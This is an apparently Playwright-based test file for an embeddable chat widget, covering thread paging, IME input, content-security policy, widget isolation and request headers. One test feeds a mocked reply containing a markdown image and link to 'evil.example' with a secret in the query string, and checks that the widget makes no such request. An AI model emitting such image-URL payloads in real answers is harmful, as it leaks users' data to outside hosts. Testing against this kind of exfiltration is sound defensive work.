import {
  added,
  assistantMessage,
  confirmed,
  created,
  delta,
  done,
  say,
  stored,
  userMessage,
} from './events.ts';
import { expect, test } from './host.ts';

const items = (from: number, to: number) =>
  Array.from({ length: to - from + 1 }, (_, n) =>
    n % 2 === 0
      ? userMessage(`i${from + n}`, `Item ${from + n}.`)
      : assistantMessage(`i${from + n}`, `Item ${from + n}.`),
  );

test('3 of a thread of 130 items the newest is shown, and the older ones come as one scrolls up', async ({
  host,
  chat,
}) => {
  const all = items(1, 130);
  chat.on('threads.get_by_id', (call) =>
    call.answer(stored('thr_1', [], { items: { data: all.slice(0, 20), has_more: true, after: 'i20' } })),
  );
  chat.on('items.list', (call) => {
    const { after, limit = 20, order } = call.params as { after?: string; limit?: number; order: string };
    expect(order).toBe('desc');
    const rest = all.toReversed().slice(after ? all.toReversed().findIndex(({ id }) => id === after) + 1 : 0);
    const data = rest.slice(0, limit);
    call.answer({ data, has_more: rest.length > limit, after: data.at(-1)?.id });
  });
  await host.open({ options: { initialThread: 'thr_1' } });
  const { panel, page } = host;
  await expect(panel.region.getByText('Item 130.')).toBeInViewport();
  await expect(panel.region.getByText('Item 1.', { exact: true })).toHaveCount(0);
  const log = page.getByRole('log');
  await expect(async () => {
    await log.evaluate((box) => {
      box.scrollTop = 0;
    });
    await expect(panel.region.getByText('Item 1.', { exact: true })).toBeInViewport({ timeout: 250 });
  }).toPass();
  expect(await page.locator('[data-kind]').count()).toBe(130);
  expect(chat.of('items.list')).toHaveLength(3);
});

test('11 an Enter that confirms a word of an input method sends nothing; the next one sends it once', async ({
  host,
  chat,
}) => {
  chat.on('threads.create', (call) => call.send(created(), confirmed(call.params), ...say('ans_1', 'はい')));
  await host.open();
  const { panel, page } = host;
  await panel.composer.focus();
  const composing: boolean[] = [];
  await page.exposeFunction('sawEnter', (isComposing: boolean) => composing.push(isComposing));
  await panel.composer.evaluate((area: HTMLTextAreaElement) => {
    const { sawEnter } = window as unknown as { sawEnter(isComposing: boolean): void };
    area.addEventListener('keydown', (event) => event.key === 'Enter' && sawEnter(event.isComposing));
  });
  const devtools = await page.context().newCDPSession(page);
  for (const text of ['k', 'か', 'かい', 'かいもの']) {
    await devtools.send('Input.imeSetComposition', {
      text,
      selectionStart: text.length,
      selectionEnd: text.length,
    });
  }
  // As an input method hands it over: with the code of a key that it has taken for itself.
  const enter = { key: 'Enter', code: 'Enter', windowsVirtualKeyCode: 229 };
  await devtools.send('Input.dispatchKeyEvent', { type: 'rawKeyDown', ...enter });
  await devtools.send('Input.dispatchKeyEvent', { type: 'keyUp', ...enter });
  await expect.poll(() => composing).toEqual([true]);
  await devtools.send('Input.insertText', { text: '買い物' });
  await expect(panel.composer).toHaveValue('買い物');
  expect(chat.calls).toEqual([]);
  await page.keyboard.press('Enter');
  await expect(panel.lastAnswer).toContainText('はい');
  await expect(panel.questions).toHaveCount(1);
  await expect(panel.questions).toContainText('買い物');
  expect(chat.calls).toHaveLength(1);
});

test('12 the policy is the strict one, and a breach would be seen', async ({ host, page, complaints }) => {
  const document = page.waitForResponse((response) => response.url().includes('/host/'));
  await host.open();
  const policy = (await document).headers()['content-security-policy'] ?? '';
  expect(policy).toContain("default-src 'none'");
  expect(policy).toContain("require-trusted-types-for 'script'; trusted-types 'none'");
  expect(policy).not.toContain('unsafe-');
  expect(complaints).toEqual([]);
  await page.evaluate(() => {
    window.host.element().shadowRoot?.querySelector('section')?.setAttribute('style', 'color: red');
  });
  await expect.poll(() => complaints.some((text) => text.startsWith('policy: style-src'))).toBe(true);
  complaints.length = 0;
});

test('14 nothing but the page, the element and its one address is asked for, and nothing is kept', async ({
  host,
  chat,
  page,
  wire,
}) => {
  const paths = new Set<string>();
  page.on('request', (request) => paths.add(new URL(request.url()).pathname));
  chat.on('threads.create', (call) => {
    const text = '![a chart](https://evil.example/c.png?q=secret) [link](https://evil.example/)';
    call.send(created(), confirmed(call.params), ...say('ans_1', text));
  });
  await host.open();
  await host.panel.say('Hello');
  const ours = [...paths].filter((path) => !/^\/(host|pages|element)[/.]/.test(path));
  expect(ours).toEqual([wire.path]);
  const kept = await page.evaluate(async () => [
    localStorage.length,
    sessionStorage.length,
    document.cookie,
    (await indexedDB.databases()).length,
  ]);
  expect(kept).toEqual([0, 0, '', 0]);
});

test('17 two elements on a page keep to themselves', async ({ host, chat, site, page }) => {
  const other = site.addEndpoint();
  chat.on('threads.create', (call) =>
    call.send(created(), confirmed(call.params), ...say('a', 'From the first')),
  );
  other.endpoint.on('threads.create', (call) =>
    call.send(
      created('thr_2'),
      confirmed(call.params, 'm', 'thr_2'),
      ...say('a', 'From the second', 'thr_2'),
    ),
  );
  await host.open();
  await page.evaluate((url) => {
    const second = document.createElement('openai-chatkit') as ReturnType<typeof window.host.element>;
    document.querySelector('main')?.append(second);
    second.setOptions({ api: { url, domainKey: '' }, frameTitle: 'Second', theme: 'dark' });
  }, other.path);
  const second = page.getByRole('region', { name: 'Second' });
  await second.getByRole('textbox', { name: 'Message' }).fill('To the second');
  await host.panel.composer.fill('A draft of the first');
  await second.getByRole('textbox', { name: 'Message' }).press('Enter');
  await expect(second).toContainText('From the second');
  await expect(host.panel.composer).toHaveValue('A draft of the first');
  expect(chat.calls).toEqual([]);
  await host.panel.composer.press('Enter');
  await expect(host.panel.lastAnswer).toContainText('From the first');
  await expect(second).not.toContainText('From the first');
  await expect(host.panel.region).toHaveAttribute('data-scheme', 'light');
  await expect(second).toHaveAttribute('data-scheme', 'dark');
  expect(await host.trace()).toEqual(['ready', 'response.start', 'thread.change{thr_1}', 'response.end']);
  expect(other.endpoint.calls).toHaveLength(1);
});

for (const page of ['react19-production', 'react18-production'] as const) {
  test(`18 an element that is defined after the wrapper has mounted takes its options: ${page}`, async ({
    host,
    chat,
  }) => {
    chat.on('threads.create', (call) =>
      call.send(created(), confirmed(call.params), ...say('ans_1', 'Late')),
    );
    await host.open({ page, elementLater: true });
    await expect(host.element).toBeAttached();
    await expect(host.panel.region).toHaveCount(0);
    await host.page.evaluate(() => window.host.loadElement());
    await host.panel.say('Hello');
    await expect(host.panel.lastAnswer).toContainText('Late');
    // Listeners that were there before the element are not seen: it holds its events back for a while.
    const trace = ['ready', 'response.start', 'thread.change{thr_1}', 'response.end'];
    await expect.poll(() => host.trace()).toEqual(trace);
  });
}

test('18 loading the element twice defines it once', async ({ host, page }) => {
  await host.open();
  const again = await page.evaluate(async () => {
    const before = customElements.get('openai-chatkit');
    await window.host.loadElement();
    return before !== undefined && customElements.get('openai-chatkit') === before;
  });
  expect(again).toBe(true);
});

test('19 a fetch of the host that spreads the headers adds its own and keeps ours', async ({
  host,
  chat,
}) => {
  chat.on('threads.get_by_id', (call) => call.answer(stored('thr_1', [])));
  chat.on('threads.add_user_message', (call) => {
    const events = [confirmed(call.params), added(assistantMessage('a', '')), delta('a', 'Hi')];
    call.send(...events, done(assistantMessage('a', 'Hi')));
  });
  await host.open({ spreadFetch: true, options: { initialThread: 'thr_1' } });
  await host.panel.say('Hello');
  const [read, write] = chat.calls.map(({ headers }) => headers);
  expect(read).toMatchObject({
    authorization: 'Bearer of-the-host',
    'content-type': 'application/json',
    accept: 'application/json',
  });
  expect(write).toMatchObject({
    authorization: 'Bearer of-the-host',
    'content-type': 'application/json',
    accept: 'text/event-stream',
    'accept-language': 'en',
  });
});
